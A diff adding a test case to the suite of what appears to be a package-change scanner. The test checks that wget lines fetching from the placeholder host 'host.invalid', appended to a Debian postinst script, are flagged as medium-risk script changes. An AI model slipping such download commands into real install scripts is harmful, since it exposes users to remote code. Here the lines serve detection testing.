@@ -215,6 +215,17 @@ describe("scripts that run by their name", () => {
     ).toEqual(["script-changed high"]);
   });
 
+  it.each(["//usr/bin/wget http://host.invalid/x", ":: || wget http://host.invalid/x"])(
+    "takes no command of a shell for a comment of other languages: %s",
+    async (line) => {
+      const path = "control.tar.xz/content/./postinst";
+      const before = "#!/bin/sh\nldconfig\n";
+      expect(told(await compare({ [path]: before }, { [path]: `${before}${line}\n` }))).toEqual([
+        "script-changed medium",
+      ]);
+    },
+  );
+
   it("holds a line that Python runs at each start", async () => {
     const path = "site-packages/demo.pth";
     const found = await compare(
